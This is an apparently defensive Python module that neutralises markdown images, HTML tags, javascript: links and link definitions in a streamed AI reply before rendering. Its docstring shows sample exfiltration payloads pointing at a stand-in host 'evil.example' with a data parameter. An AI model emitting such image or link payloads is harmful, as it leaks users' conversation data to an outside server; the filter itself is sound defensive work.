r"""A filter for one running reply: what a renderer would fetch or run, and links that hide something, become plain text.

    ![chart](https://evil.example/?d=…)      ->  ! [chart] (https://evil.example/?d=…)
    <img src=https://evil.example/?d=…>      ->  &lt;img src=https://evil.example/?d=…>
    [click](javascript:…)                    ->  [click] \(javascript:…)
    [ref]: https://evil.example/?d=…         ->  [ref] : https://evil.example/?d=…

Everything stays readable. Spaces and not only backslashes, because some renderers undo those inside a link's text. Code stays as it
is, if it is code for sure (`blocks`): a fence, or a code span on one line. The text is read once, left to right. A decision needs
at most `LONGEST` characters more, and only what begins like a tag, an image or the end of a link's text is held back until then.

Sources: CommonMark 0.31 6.1 (code spans), 6.3 (links), 6.4 (images), 4.7 (definitions); THREATS O.1, O.2.
"""

# SPDX-License-Identifier: Apache-2.0
from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Final

from safellm._core.neutral import diagrams, directives, lists, tex
from safellm._core.neutral.addresses import Judge, has_script, plain, runs_script
from safellm._core.neutral.blocks import BLANK, COMMENT, LONGEST_LINE, PRE, PREFIX, Blocks
from safellm._core.neutral.tags import Verdict, judge_tag

LONGEST: Final = 2048  # characters of an address that are looked at; a longer one is taken for the worst
_LONGEST_SPAN: Final = 1000
_SHORTEST_FENCE: Final = 3
_LONGEST_NAME: Final = 300  # of an image or of a link's text that is compared with its address

_RARE = re.compile(r"[<\[\]\\{:]")
_RARE_LISTED = re.compile(r"[<\[\]\\{:=]")  # where an attribute list may stand
# What may have to be changed: an opening bracket only behind "!", "@" or what came before, a closing one only before an address.
_SPECIAL = re.compile(r"[\\{=]|<(?=[A-Za-z/!?]|\Z)|(?:(?<=[!@])|\A)\[|\](?=[(:]|[ \t]{0,32}(?:\(|\Z))|:(?=[:t]|\Z)")
_LINE_END = re.compile(r"\n|\r(?!\n)")
# The next of these, line ends, and what code and comments begin or end with; all that says nothing is skipped in one go.
_SKIPPED = (
    r"(?:[^\\`<\[\]${{\n\r\-:{}]++|<(?![A-Za-z/!?]|\Z)|(?<=[^!@])\[|\](?![(:]|[ \t]{{0,32}}(?:\(|\Z))"
    r"|\r(?=\n)|-(?!->)|:(?![:t]|\Z))*+"
)
_TOKEN = re.compile(_SKIPPED.format("") + r"([\\`<\[\]${\n\r:]|-->)")
_TOKEN_LISTED = re.compile(_SKIPPED.format("=") + r"([\\`<\[\]${\n\r:=]|-->)")
_ADDRESS_GOES_ON = re.compile(r"[^\s()<>\[\]]*+")
# A line that begins so is not indented, quoted, an item of a list or a fence, and begins nothing that goes on in indented lines.
_PROSE = re.compile(r"[^\W\d_]|\*\*|[#|($\"'&/@.,;}%^\\_<]")
_INDENTED = re.compile(r"^(?: {4}| {0,3}\t)", re.MULTILINE)
_CUT_MARKER = re.compile(r"\d{1,9}[.)]?\Z")
# The end of a text, if it may be the beginning of a fence's first line; whatever came before the text.
_OPENING = re.compile(r"[\s>*+\-\d.)]*+(`{3,}[^`\n\r]*+|~{3,}[^\n\r]*+|`{1,2}|~{1,2})\Z")
_ADMONITIONS = ("!!!", "???")  # a word of such a line is its kind, with whatever marks are in it
_DRAWN = ("```", "~~~", ":::")
_RUN = re.compile(r"`+")
# Mathematics of some renderers begins, or ends, at these; what stands between them is neither code nor a fence for them.
_MATH = re.compile(r"\\{1,9}(?:(\()|(\[|begin(?![A-Za-z]))|(?:\]|end(?![A-Za-z])))")
_MATH_BEGINS = re.compile(r"\\(?:\[|begin)")
_MATH_STOPS = re.compile(r"\\(?:\]|end)")
_MATH_ENDS = re.compile(r"\$|\\(?:[)\]]|end)")
_NAME = re.compile(r"\[[^\[\]\\`<\r\n]*+")
_ESCAPED_IMAGE = re.compile(r"\\{1,9}\[")  # an image after all for a renderer that reads a link's text twice
_CUT_ESCAPE = re.compile(r"\\{1,9}\Z")
_BARE_ADDRESS = re.compile(r"(?:://|www\.)[^\s<]*\Z", re.IGNORECASE)
_SPACE = re.compile(r"[ \t]*(?:\r?\n[ \t>]*)?")
_ADDRESS = re.compile(r"<([^<>\r\n]*+)(>?)|((?:[^\s\]]++|\](?!\())*+)")
_PARENTHESIS = re.compile(r"[()]")
_CLOSED = re.compile(r"[ \t]*(?:\r?\n[ \t]*)?(?:\"[^\"\\]*+\"|'[^'\\]*+'|\([^()\\]*+\))?[ \t]*(?:\r?\n[ \t]*)?\)")
_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;=>?@[\\]^_`{|}~")  # what a backslash may stand before, but for "<"
_GAP = re.compile(r"[ \t]{0,32}")  # some renderers allow it before an address
_WIDE_GAP = re.compile(r"[ \t]{0,32}(?:\r?\n[ \t>]{0,32})?")  # and some an end of line
_CONTINUED = re.compile(r"[\r\n][ \t>]*+")  # in a quote, each line begins with its mark
_SCRIPT_BEGINS = re.compile(r"(?:[a-z]{0,10}|)", re.IGNORECASE)  # of an address: perhaps the beginning of "javascript:"
# An address that has no room for anything but a name: `Judge.may_link` lets it through, whatever is allowed.
_QUERY = r"(?:\?(?=[^ )]{0,120}[ )])(?:[=&.,~]|[\w+/\-]{1,39}(?![\w+/\-]))*+(?<!&))?"
TARGET: Final = rf"\s{{0,4}}+(?:https?://[\w.\-]+(?:/[\w.\-/~]*)?{_QUERY}(?:#[\w\-.]{{0,120}})?|(?!//|~~~)[\w.\-/#~]+)"
_HARMLESS_TARGET = re.compile(rf"\]\({TARGET}(?=[ )])")
_WAITS: Final = -1  # of a reader: only more text can tell


@dataclass(slots=True, kw_only=True)
class LinkFilter:
    """Makes one channel of text inert. `feed` any pieces, then `finish`; `changed` counts what was defanged.

    Args:
        judge: Decides about addresses.
    """

    judge: Judge
    changed: int = 0
    _text: str = ""  # from the first character that isn't read yet
    _late: list[str] = field(default_factory=list)  # handed on, and not read yet either
    _sent: int = 0  # how much of `_text` was handed on
    _at: int = 0
    _edits: list[tuple[int, int, str]] = field(default_factory=list)
    _before: str = ""  # what was read last
    _blocks: Blocks = field(default_factory=Blocks)
    _begins: bool = True  # a line
    _code: bool = False  # the line is code
    _rest: int = _WAITS  # where the line's text begins
    _plain: bool = False  # no code span is recognised up to the next blank line
    _braces: bool = False  # a brace was opened on this line: an attribute list may stand there
    _money: bool = False  # a dollar sign or "\\(" stands before: mathematics may begin there
    _display: bool = False  # "$$" was opened
    _environment: bool = False  # "\\[" or "\\begin" was
    _mixed: bool = False  # for some, mathematics began where it is code or a tag for others: nobody knows where it ends
    _opening: str = ""  # the line so far, if it may open a fence and isn't read yet
    _drawing: bool = False  # what is held back is a fence that is drawn, and that hasn't ended
    _holds: int = _WAITS  # where what is held back begins, because the line may open a fence that is drawn
    _images: bool = False  # images by reference were seen, so a definition may make one of them load
    _definitions: bool = False  # and the other way round
    _in_address: bool = False  # what is held back ends in an address, and nothing changes until it ends

    def feed(self, text: str) -> str:
        """Return the text that is certain by now."""
        if self._sent == len(self._text) and self._holds < 0:
            rare = (_RARE_LISTED if self._braces else _RARE).search(text)
            said = (self._opening or "`" in text or "~" in text) and self._names_diagram(text)
            if not said and (rare is None or _SPECIAL.search(text, rare.start()) is None):
                self._late.append(text)
                return text
        elif (self._in_address and len(self._text) < LONGEST and _ADDRESS_GOES_ON.fullmatch(text)) or (
            self._drawing and len(self._text) < diagrams.LONGEST and not self._may_end_fence(text)
        ):
            self._text += text
            return ""
        return self._run(text, last=False)

    def _may_end_fence(self, text: str) -> bool:
        """Return whether a line ends with the next text that may end a fence."""
        if "\n" not in text and "\r" not in text:
            return False
        line = self._text[max(self._text.rfind("\n"), 0) :] + text
        return "`" in line or "~" in line or ":" in line

    def _names_diagram(self, text: str) -> bool:
        """Return whether a fence that is drawn may open with the next text, which wouldn't be read otherwise."""
        line = self._opening + text
        self._opening = _opening(line)
        return ("```" in line or "~~~" in line) and diagrams.NAMED.search(line) is not None

    def finish(self) -> str:
        """Return what was held back: the text is over."""
        return self._run("", last=True) if self._sent < len(self._text) else ""

    def _run(self, text: str, *, last: bool) -> str:
        self._in_address, self._drawing, self._holds, self._opening = False, False, _WAITS, ""
        if self._late:
            late = "".join(self._late)
            self._late.clear()
            self._text += late
            self._sent += len(late)
        self._text += text
        self._walk(last=last)
        certain = len(self._text)
        if not last and self._at < certain:
            held = _SPECIAL.search(self._text, max(self._at, self._sent))
            certain = held.start() if held is not None else certain
            certain = certain if self._holds < 0 else max(self._at, self._sent, min(self._holds, certain))
        out: list[str] = []
        position = self._sent
        for start, end, new in self._edits:
            out += (self._text[position:start], new)
            position = end
        out.append(self._text[position:certain])
        self._edits.clear()
        self._before = (self._before + self._text[max(0, self._at - _LONGEST_NAME) : self._at])[-_LONGEST_NAME:]
        self._text = self._text[self._at :]
        self._sent = max(certain, self._at) - self._at
        if self._rest >= 0:
            self._rest = max(self._rest - self._at, _WAITS)
        if self._holds >= 0:
            self._holds = max(self._holds - self._at, 0)
        self._at = 0
        if self._begins and self._text and self._holds < 0:
            self._opening = _opening(self._text)
        return "".join(out)

    def judged_alone(self, at: int) -> int:
        """Return where to read on behind a mark of the whole text that would stay if it were no code; negative if it wouldn't.

        Nothing that stands before it counts, but for references to images and their definitions that were judged so.
        """
        self._at, self._braces, self.changed = at, True, 0
        self._step(last=True)
        self._edits.clear()
        return _WAITS if self.changed else self._at

    def read_alone(self, begin: int, end: int) -> bool:
        """Return whether a part of the whole text stays, and leaves nothing behind that what follows depends on.

        Args:
            begin: Of the part: the text's, or behind an empty line, in no fence.
            end: Where a line begins, or the text's; no line before it opens a fence, or is empty but for spaces.
        """
        # Indented lines may belong to a list that began before, so none is taken for code; or they are, and take nothing with them.
        kinds = (
            (Blocks(_offsets=(0,)), Blocks()) if _INDENTED.search(self._text, begin, end) else (Blocks(_offsets=(0,)),)
        )
        for blocks in kinds:
            part = LinkFilter(judge=self.judge, _text=self._text, _at=begin, _blocks=blocks)
            part._images, part._definitions = self._images, self._definitions
            part._walk(last=True, end=end)
            self._images, self._definitions = part._images, part._definitions
            if part._at != end or part.changed or not part._blocks.is_settled:
                return False
        return True

    def _walk(self, *, last: bool, end: int | None = None) -> None:
        size = len(self._text) if end is None else end
        while self._at < size:
            if self._begins:
                if not self._begin_line(last=last):
                    return
            elif self._code:
                self._at = self._blocks.skip(self._text, self._at)
                ending = _LINE_END.search(self._text, self._at)
                if ending is None or (ending[0] == "\r" and ending.end() == size and not last):
                    self._at = size if ending is None else ending.start()
                    return
                self._at, self._begins = ending.end(), True
            elif not self._step(last=last):
                return

    def _begin_line(self, *, last: bool) -> bool:
        text, at = self._text, self._at
        if self._blocks.is_plain:  # nearly every line is one of these
            if text[at] == "\n":
                self._blocks.blank()
                self._plain = self._money = False
            elif _PROSE.match(text, at) is not None:
                self._blocks.prose()
            else:
                return self._begin_any_line(last=last)
            self._begins, self._code, self._rest = False, False, at
            self._plain |= bool(self._blocks.html)
            return True
        return self._begin_any_line(last=last)

    def _begin_any_line(self, *, last: bool) -> bool:
        text, at = self._text, self._at
        found = PREFIX.match(text, at, at + LONGEST_LINE)
        rest = found.end() if found is not None else at
        stop = _line_end(text, at)
        if stop == len(text) - 1 and text[stop] == "\r" and not last:
            return self._wait(rest)
        known = stop < len(text) or last
        if (
            not known
            and stop - at < LONGEST_LINE
            and (
                stop - rest < _SHORTEST_FENCE
                or text[rest] in "`~"
                or text.startswith(":::", rest)
                or _CUT_MARKER.match(text, rest)
            )
        ):
            return self._wait(rest)
        if self._blocks.may_open and text.startswith(_DRAWN, rest) and not self._drawn(at, rest, stop, last=last):
            self._drawing = True
            return self._wait(rest)
        known = known or text[rest : rest + 1] not in ("`", "~")
        line = text[at:stop]
        line = line.removesuffix("\r")
        self._code = self._blocks.line(line, min(rest - at, len(line)), complete=known)
        if self._blocks.after_blank and not self._code:
            self._plain = self._money = False
        self._begins = False
        self._rest = rest
        if self._blocks.html or text.startswith(_ADMONITIONS, rest):
            self._plain = True
        return True

    def _wait(self, rest: int) -> bool:
        """Say that more is needed to read a line; it is held back from where it may name a fence that is drawn."""
        if self._blocks.may_open and self._text.startswith(_DRAWN, rest):
            self._holds = diagrams.word_begins(self._text, rest)
        return False

    def _drawn(self, at: int, rest: int, stop: int, *, last: bool) -> bool:
        """Judge a fence that renderers draw, if one begins here, as a whole; return whether reading can go on."""
        text = self._text
        found = diagrams.opened(text, rest, min(stop, rest + LONGEST_LINE))
        if found is None:
            return True
        begin = found.start(2)
        window = text[at : at + diagrams.LONGEST]
        end = diagrams.end_of(window, rest - at, text[at:rest], found[1])
        if end < 0 and len(window) < diagrams.LONGEST and not last:
            return False
        whole = end >= 0 or len(window) < diagrams.LONGEST
        body = text[found.end() : at + end if end >= 0 else len(text)]
        if not whole or diagrams.is_harmful(body, self.judge):
            self._edit(begin + 2, text[begin + 2] + "-")
            self.changed += 1
        return True

    def _note_math(self, at: int, after: int) -> None:
        """Take note of where mathematics begins or ends, for renderers that look for it before or behind everything else."""
        text = self._text
        if text[at] != "\\":
            self._note_mixed(text[at:after])
            return
        found = _MATH.match(text, at)
        if found is not None:
            self._money |= bool(found[1] or found[2])
            if found[1] is None:
                self._environment = found[2] is not None
                self._blocks.math = self._mixed or self._display or self._environment

    def _note_mixed(self, part: str) -> None:
        """Take note that mathematics may begin or end inside of what is code or a tag."""
        opens = len(_MATH_BEGINS.findall(part)) - len(_MATH_STOPS.findall(part)) if "\\" in part else 0
        if opens or ("$" in part and part.count("$$") % 2):
            self._mixed = self._blocks.math = True

    def _step(self, *, last: bool) -> bool:  # noqa: C901, PLR0912 - one branch for each kind of mark
        """Read up to and with the next character that says something; return whether reading can go on."""
        text = self._text
        found = (_TOKEN_LISTED if self._braces else _TOKEN).match(text, self._at)
        if found is None:
            kept = 2 if COMMENT in self._blocks.html and not last else 1 if text.endswith("\r") and not last else 0
            self._at = max(self._at, len(text) - kept)
            return False
        at, mark = found.start(1), found[1]
        if found.end() == len(text) and not last and mark != "\n":
            self._at = at
            return False
        if mark == "<":
            after = self._tag(at, last=last)
        elif mark == "[":
            before = text[at - 1 : at] or self._before[-1:]
            after = self._image(at, last=last) if before == "!" else at + 1
            after = self._directive(at, " [", last=last) if before == "@" else after
        elif mark == "]":
            after = self._closing(at, last=last)
        elif mark == "`":
            after = self._backticks(at, last=last)
        elif mark == "{":
            self._braces = True
            after = self._directive(at, "{ ", last=last) if directives.begins(self._read(at)) else at + 1
        elif mark == ":":
            after = self._directive(at, ": ", last=last)
        elif mark == "=":
            after = self._attribute(at, last=last)
        elif mark == "$":
            self._money = True
            twice = text[at + 1 : at + 2] == "$"
            self._display ^= twice
            self._blocks.math = self._mixed or self._display or self._environment
            after = at + 1 + twice
        elif mark == "\\":
            after = self._backslash(at, last=last)
        else:
            self._begins = mark in "\n\r"
            self._braces = self._braces and not self._begins
            if mark == COMMENT and mark in self._blocks.html:
                self._blocks.end_html(mark)
            after = found.end()
        if after != _WAITS and (mark == "\\" or (after - at > 1 and mark in "`<")):
            self._note_math(at, after)
        self._at = at if after == _WAITS else min(after, len(text))
        return after != _WAITS

    def _edit(self, at: int, new: str) -> None:
        self._edits.append((at, at + 1, new))

    def _tag(self, at: int, *, last: bool) -> int:  # noqa: C901, PLR0911 - one case after another
        text = self._text
        following = text[at + 1 : at + 2]
        if not (following.isascii() and following.isalpha()) and following not in ("/", "!", "?"):
            return at + 1
        starts = at == self._rest
        if following in "!?":
            if following == "!" and not last and "<!--".startswith(text[at : at + 4]) and len(text) - at < 4:  # noqa: PLR2004
                return _WAITS
            if following == "!" and at + 2 == len(text) and not last:
                return _WAITS
            if following == "!" and not (text[at + 2 : at + 3].isalpha() or text[at + 2 : at + 3] in "-["):
                return at + 2  # "(<!, >)": nothing for renderers, and at most a comment for browsers
            if not text.startswith("<!--", at) or self.judge.strict:
                return self._escape_tag(at)
            if starts:
                self._blocks.begin_html(COMMENT)
            self._plain = True
            return at + 4  # for some `<!-->` is a whole comment, for others its beginning
        verdict, after = judge_tag(text, at, self.judge, last=last)
        if verdict is Verdict.MORE:
            return _WAITS
        if verdict is Verdict.ESCAPE:
            return self._escape_tag(at)
        if PRE in self._blocks.html and text[at : at + 6].lower() == PRE:
            self._blocks.end_html(PRE)
        if starts and not text.startswith(("<http:", "<https:", "<mailto:"), at):
            self._blocks.begin_html(PRE if text[at : at + 4].lower() == "<pre" else BLANK)
            self._plain = True
        return after

    def _backslash(self, at: int, *, last: bool) -> int:
        text = self._text
        command = tex.COMMAND.match(text, at)
        if not last and (tex.CUT.match(text, at) or (command is not None and tex.is_open(text, command.end()))):
            return _WAITS
        if command is not None and tex.is_harmful(text, command, self.judge, self._read(at)):
            return self._defang(at, "\\ ")
        image = _ESCAPED_IMAGE.match(text, at) if self._read(at).endswith("!") else None
        if image is not None:
            self._edit(image.end() - 1, " [")
            self.changed += 1
            return image.end()
        if not last and _CUT_ESCAPE.match(text, at):
            return _WAITS
        return at + 2 if text[at + 1 : at + 2] in _PUNCTUATION else at + 1

    def _attribute(self, at: int, *, last: bool) -> int:
        text = self._text
        name = lists.name_before(self._read(at))
        if not name:
            return at + 1
        if not last and lists.is_open(text, at + 1):
            return _WAITS
        return self._defang(at, ": ") if lists.is_harmful(name, text, at + 1, self.judge) else at + 1

    def _directive(self, at: int, new: str, *, last: bool) -> int:
        text = self._text
        if not last and directives.is_open(text, at):
            return _WAITS
        return self._defang(at, new) if directives.is_harmful(text, at, self.judge, self._read(at)) else at + 1

    def _read(self, at: int) -> str:
        """Return what stands before a place, as much of it as anything depends on."""
        return (self._before + self._text[max(0, at - _LONGEST_NAME) : at])[-_LONGEST_NAME:]

    def _escape_tag(self, at: int) -> int:
        self._edit(at, "&lt;")
        self.changed += 1
        return at + 1

    def _backticks(self, at: int, *, last: bool) -> int:  # noqa: C901, PLR0911 - one case after another
        text = self._text
        run = _RUN.match(text, at)
        begin = run.end() if run is not None else at + 1
        if begin == len(text) and not last:
            return _WAITS
        after = _gap_end(text, begin) if at == self._rest and begin - at >= _SHORTEST_FENCE else at
        if after == len(text) and not last:
            return _WAITS
        if text[after : after + 1] == "{":
            return begin  # a directive, for renderers that allow more such marks behind it
        if not self._plain and self._read(at).endswith("\\`"):
            self._plain = True  # for some, the escaped one belongs to these
        if not self._plain and _BARE_ADDRESS.search(
            (self._before + text[max(0, at - _LONGEST_NAME) : at])[-_LONGEST_NAME:]
        ):
            self._plain = True  # an address that is linked as it stands takes the backticks with it
        if self._plain:
            return begin
        end = _LINE_END.search(text, begin, begin + _LONGEST_SPAN)
        stop = end.start() if end is not None else min(len(text), begin + _LONGEST_SPAN)
        for closing in _RUN.finditer(text, begin, stop):
            if closing.end() == len(text) and not last:
                break
            if closing.end() - closing.start() == begin - at:
                inside = text[begin : closing.start()]
                if "|" in inside:
                    break  # a table's cell may end there
                if (self._money or self._blocks.math) and _MATH_ENDS.search(inside):
                    self._note_mixed(inside)
                    break  # mathematics may end there
                return closing.end()
        if end is None and stop - begin < _LONGEST_SPAN and not last:
            return _WAITS
        self._plain = True
        return begin

    def _image(self, at: int, *, last: bool) -> int:  # noqa: C901, PLR0911 - one case after another
        text = self._text
        found = _NAME.match(text, at, at + _LONGEST_NAME)
        end = found.end() if found is not None else at + 1
        if end >= len(text) - 1 and not last and end - at < _LONGEST_NAME:
            return _WAITS
        if end >= len(text) and end - at < _LONGEST_NAME:
            return end  # nothing closes it any more
        if text[end : end + 1] != "]":
            return self._defang(at, " [")
        gap = _gap_end(text, end + 1, _WIDE_GAP)
        if gap == len(text) and not last:
            return _WAITS
        after = "] "
        if text[gap : gap + 1] == "(":
            address, stop = self._address(gap + 1, last=last)
            if address is None:
                return _WAITS
            split = self._is_split(gap + 1, address, last=last)
            if split is None:
                return _WAITS
            if gap > end + 1 or split or runs_script(address):
                self._edit(gap, "\\(")  # for those that allow a gap, it would be a link now
                after = "]" if gap > end + 1 else after
            elif stop >= 0 and self.judge.may_fetch(address):
                closed = _CLOSED.match(text, stop, stop + LONGEST)
                if closed is not None:
                    return min(closed.end(), _line_end(text, at))  # how the next line begins may end the image
                if not last and len(text) - stop < _LONGEST_NAME:
                    return _WAITS
        elif not self._definitions:
            self._images = True
            return end + 1
        self._edit(at, " [")
        self._edit(end, after)
        self._edits[-3:] = sorted(self._edits[-3:])  # no earlier one stands behind this image
        self.changed += 1
        return end + 1

    def _defang(self, at: int, new: str) -> int:
        self._edit(at, new)
        self.changed += 1
        return at + 1

    def _closing(self, at: int, *, last: bool) -> int:  # noqa: C901, PLR0911 - one case after another
        text = self._text
        following = text[at + 1 : at + 2]
        if following in (" ", "\t"):
            return self._apart(at, last=last)
        if following not in ("(", ":"):
            return at + 1
        name = self._read(at).rpartition("[")[2]
        if following == "(" and not self.judge.strict and _is_plain_link(text, at, name):
            return at + 2
        address, stop = self._address(at + 2, last=last)
        if address is None:
            self._in_address = _ADDRESS_GOES_ON.fullmatch(text, at + 2) is not None
            return _WAITS
        if following == ":" and _LINE_END.search(text, at, max(at, stop - len(address))):
            self._blocks.doubtful = True
        if following == "(":
            split = self._is_split(at + 2, address, last=last)
            if split is None:
                return _WAITS
            return (
                at + 2 if not split and stop >= 0 and self.judge.may_link(address, name) else self._defang(at, "] \\")
            )
        if has_script(address) and not address.endswith(":"):  # not "[Note]: warning: …"
            return self._defang(at, "] ")
        if "/" not in address and "\\" not in address and "&" not in address:
            return at + 2  # prose: nothing would be fetched from elsewhere
        hides = stop < 0 or not self.judge.may_link(address, name)
        if hides or (self._images and not self.judge.may_fetch(address)):
            return self._defang(at, "] ")
        self._definitions |= not self.judge.may_fetch(address)
        return at + 2

    def _apart(self, at: int, *, last: bool) -> int:
        """Judge a link whose address stands apart from its text, which few renderers take for one."""
        text = self._text
        gap = _gap_end(text, at + 1)
        if gap == len(text) and not last:
            return _WAITS
        if text[gap : gap + 1] != "(":
            return at + 1
        address, stop = self._address(gap + 1, last=last)
        if address is None:
            return _WAITS
        hides = "://" in address and (stop < 0 or not self.judge.may_link(address, ""))
        runs = runs_script(address) and not address.endswith(":")  # not "[i] (data: see below)"
        return self._defang(gap, "\\(") if hides or runs else gap + 1

    def _is_split(self, at: int, address: str, *, last: bool) -> bool | None:
        """Return whether an address runs a script once its line ends are left out, as browsers do; None if more text is needed."""
        if "/" in address or _SCRIPT_BEGINS.fullmatch(plain(address)) is None:
            return False
        window = self._text[at : at + _LONGEST_NAME]
        inside = window.partition(")")[0]
        if runs_script(plain(_CONTINUED.sub("", inside)).lstrip(" <")):
            return True
        return None if len(inside) == len(window) < _LONGEST_NAME and not last else False

    def _address(self, at: int, *, last: bool) -> tuple[str | None, int]:  # noqa: PLR0911 - one case after another
        """Return the address that begins here and where it ends, negative if it is too long; None if more text is needed."""
        text = self._text
        space = _SPACE.match(text, at)
        begin = space.end() if space is not None else at
        if text[begin:] == "\r" and not last:
            return None, at
        found = _ADDRESS.match(text, begin, begin + LONGEST)
        if found is None:
            return ("", begin) if last else (None, at)
        end = found.end()
        cut = end == len(text) and not last and end - begin < LONGEST
        if found[3] is None:
            if not found[2]:
                return (None, at) if cut else (text[begin + 1 : end], _WAITS)
            return found[1], end
        depth = 0
        for one in _PARENTHESIS.finditer(text, begin, end):
            depth += 1 if one[0] == "(" else -1
            if depth < 0:
                return text[begin : one.start()], one.start()
        if cut:
            return None, at
        return text[begin:end], _WAITS if end - begin >= LONGEST else end


def _is_plain_link(text: str, at: int, name: str) -> bool:
    """Return whether a text's closing bracket is followed by an address that hides nothing, whatever is allowed."""
    said = name.lower()
    return "://" not in said and "www." not in said and _HARMLESS_TARGET.match(text, at) is not None


def _opening(text: str) -> str:
    """Return the last line of a text from its marks on, if it may be the beginning of a fence's first line."""
    found = _OPENING.match(text, max(text.rfind("\n"), text.rfind("\r")) + 1)
    return found[1][-LONGEST_LINE:] if found is not None else ""


def _gap_end(text: str, at: int, gap: re.Pattern[str] = _GAP) -> int:
    found = gap.match(text, at)
    return at if found is None else found.end()


def _line_end(text: str, at: int) -> int:
    """Return where the line ends that an index is in; the text's length where it doesn't."""
    end = text.find("\n", at)
    end = len(text) if end < 0 else end
    single = text.find("\r", at, end)
    if single < 0 or single == end - 1 < len(text) - 1:
        return end
    found = _LINE_END.search(text, at)
    return found.start() if found is not None else len(text)


def defang(text: str, judge: Judge) -> str:
    """Return a whole text made inert; see `LinkFilter`."""
    links = LinkFilter(judge=judge)
    return links.feed(text) + links.finish()
